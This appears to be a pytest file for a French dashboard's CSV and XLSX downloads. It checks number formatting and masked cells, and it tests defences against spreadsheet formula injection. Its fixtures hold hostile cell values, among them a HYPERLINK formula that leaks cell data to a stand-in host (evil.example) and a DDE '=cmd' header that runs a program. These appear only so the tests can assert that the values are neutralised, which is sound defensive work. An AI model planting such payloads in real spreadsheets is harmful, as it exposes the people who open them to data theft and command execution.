"""CSV and XLSX downloads: French CSV, masked cells kept as "s", exactly the shown rows."""
from __future__ import annotations

import io

import openpyxl
import pandas as pd

from dashboard import exports
from dashboard.tables import Col, present


def _mart_rows():
    # Two people rows, the second one masked (null values + is_masked), and a total.
    return pd.DataFrame({
        "value": ["F", "M", "total"],
        "n_participants": [54, None, 300],
        "hours_worked": [18000.4, None, 120000.0],
        "realisation_rate": [0.125, None, 1.2],
        "is_masked": [False, True, False],
    })


COLUMNS = [Col("value", "Sexe", "code:gender"), Col("n_participants", "Participants", "int"),
           Col("hours_worked", "Heures réalisées", "hours"), Col("realisation_rate", "Taux", "pct")]


def test_present_masks_null_cells_of_flagged_rows_only():
    display, export = present(_mart_rows(), COLUMNS)
    assert list(display.columns) == ["Sexe", "Participants", "Heures réalisées", "Taux"]
    assert display.iloc[0].tolist() == ["Femmes", "54", "18\u202f000", "12,5\u00a0%"]
    assert display.iloc[1].tolist() == ["Hommes", "s", "s", "s"]
    assert list(export.columns) == ["Sexe", "Participants", "Heures réalisées", "Taux (%)"]
    assert export.iloc[0].tolist() == ["Femmes", 54, 18000, 12.5]
    assert export.iloc[1].tolist() == ["Hommes", "s", "s", "s"]
    assert export.iloc[2].tolist() == ["total", 300, 120000, 120.0]


def test_csv_is_semicolon_decimal_comma_utf8_bom():
    _, export = present(_mart_rows(), COLUMNS)
    data = exports.to_csv_bytes(export)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    lines = text.split("\r\n")
    assert lines[0] == "Sexe;Participants;Heures réalisées;Taux (%)"
    assert lines[1] == "Femmes;54;18000;12,5"
    assert lines[2] == "Hommes;s;s;s"
    assert lines[3] == "total;300;120000;120"
    assert lines[4] == ""  # trailing line end, nothing else
    assert len(lines) == 5


def test_csv_quotes_separators_inside_text():
    df = pd.DataFrame({"Objet": ["Peinture; lot 2"], "Montant": [1234.5]})
    text = exports.to_csv_bytes(df).decode("utf-8-sig")
    assert text.split("\r\n")[1] == '"Peinture; lot 2";1234,5'


def test_xlsx_keeps_numbers_and_masked_text():
    _, export = present(_mart_rows(), COLUMNS)
    wb = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx_bytes(export)))
    ws = wb.active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("Sexe", "Participants", "Heures réalisées", "Taux (%)")
    assert rows[1] == ("Femmes", 54, 18000, 12.5)
    assert rows[2] == ("Hommes", "s", "s", "s")
    assert len(rows) == 4


def test_list_cells_from_duckdb_are_joined():
    import numpy as np

    df = pd.DataFrame({"reason": ["SIRET invalide"], "examples": [np.array(["123", "ABC"])]})
    display, export = present(df, [Col("reason", "Raison"), Col("examples", "Exemples")])
    assert display.iloc[0].tolist() == ["SIRET invalide", "123, ABC"]
    assert exports.to_csv_bytes(export).decode("utf-8-sig").split("\r\n")[1] == "SIRET invalide;123, ABC"


# --- spreadsheet formula injection (issue 9, "Data shown safely") ----------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")', "+1+1", "-2+3", "@SUM(A1:A2)",
           "\tTab", "\rCR", "\uff1d1+1", "Habitat du Nord"]


def _hostile_frame():
    return pd.DataFrame({
        "Acheteur": pd.Series(HOSTILE, dtype=object),
        "Montant": pd.Series([-1500.5, 10, -3, 0, 1, 2, 3, 4], dtype=object),
        "Exemples": pd.Series([["-5", "=1+1"], "-5", "-5,5", "s", None, "x", "y", "z"], dtype=object),
    })


def test_neutralise_prefixes_formula_starts_and_keeps_plain_numbers():
    assert exports.neutralise("=1+1") == "'=1+1"
    assert exports.neutralise("+1+1") == "'+1+1"
    assert exports.neutralise("-2+3") == "'-2+3"
    assert exports.neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert exports.neutralise("\tx") == "'\tx"
    assert exports.neutralise("\rx") == "'\rx"
    assert exports.neutralise("\uff1d1+1") == "'\uff1d1+1"  # full-width equals sign
    assert exports.neutralise("-5") == "-5"  # a number written as text is no formula
    assert exports.neutralise("-5,5") == "-5,5"
    assert exports.neutralise("Habitat = ok") == "Habitat = ok"  # only the first character counts
    assert exports.neutralise("s") == "s"


def test_xlsx_holds_no_formula_and_keeps_numbers_numeric():
    wb = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx_bytes(_hostile_frame(), note="=1+1")))
    ws = wb.active
    types = {c.data_type for row in ws.iter_rows() for c in row if c.value is not None}
    assert "f" not in types
    rows = list(ws.iter_rows(min_row=2, max_row=9, values_only=True))
    assert rows[0][0] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'
    # (XML turns the carriage return into a line feed on reading: the prefix is what matters)
    assert [r[0] for r in rows[1:]] == ["'+1+1", "'-2+3", "'@SUM(A1:A2)", "'\tTab", "'\nCR", "'\uff1d1+1",
                                       "Habitat du Nord"]
    # numbers stay numbers, negative ones included
    assert rows[0][1] == -1500.5 and ws.cell(row=2, column=2).data_type == "n"
    assert rows[2][1] == -3
    # list cells are joined, then neutralised; a number written as text stays as it is
    assert rows[0][2] == "'-5, =1+1"  # starts with "-" and is not a number
    assert rows[1][2] == "-5"
    assert ws.cell(row=len(rows) + 3, column=1).value == "'=1+1"  # the note, below the table


def test_xlsx_header_cells_are_neutralised_and_control_characters_dropped():
    df = pd.DataFrame({"=cmd|' /C calc'!A0": pd.Series(["a\x01b", "ok"], dtype=object)})
    ws = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx_bytes(df))).active
    assert ws.cell(row=1, column=1).value == "'=cmd|' /C calc'!A0"
    assert ws.cell(row=1, column=1).data_type == "s"
    assert ws.cell(row=2, column=1).value == "ab"


def test_xlsx_neutralises_string_dtype_columns():
    df = pd.DataFrame({"Nom": pd.array(["=1+1", "x"], dtype="string")})
    ws = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx_bytes(df))).active
    assert ws.cell(row=2, column=1).value == "'=1+1" and ws.cell(row=2, column=1).data_type == "s"


def test_csv_neutralises_text_and_keeps_numbers():
    import csv as csv_module

    data = exports.to_csv_bytes(_hostile_frame()).decode("utf-8-sig")
    rows = list(csv_module.reader(io.StringIO(data, newline=""), delimiter=";"))
    assert rows[0] == ["Acheteur", "Montant", "Exemples"]
    body = rows[1:]
    assert [r[0] for r in body] == ['\'=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")', "'+1+1", "'-2+3",
                                   "'@SUM(A1:A2)", "'\tTab", "'\rCR", "'\uff1d1+1", "Habitat du Nord"]
    assert [r[1] for r in body[:3]] == ["-1500,5", "10", "-3"]  # numbers: not prefixed
    assert body[0][2] == "'-5, =1+1" and body[1][2] == "-5" and body[2][2] == "-5,5"
    assert not any(cell.startswith(exports.FORMULA_START) and not cell.lstrip("+-").replace(",", "").isdigit()
                   for r in body for cell in r)


def test_present_then_export_neutralises_names_from_the_marts():
    # the route a page takes: mart rows -> present() -> downloads
    df = pd.DataFrame({"buyer_name": ["=HYPERLINK(\"http://evil.example\")"], "amount": [-1200.0]})
    _, export = present(df, [Col("buyer_name", "Acheteur"), Col("amount", "Montant", "eur")])
    ws = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx_bytes(export))).active
    assert ws.cell(row=2, column=1).data_type == "s"
    assert ws.cell(row=2, column=1).value.startswith("'=")
    assert ws.cell(row=2, column=2).value == -1200
    assert exports.to_csv_bytes(export).decode("utf-8-sig").split("\r\n")[1] == \
        '"\'=HYPERLINK(""http://evil.example"")";-1200'  # csv quoting doubles the quotes
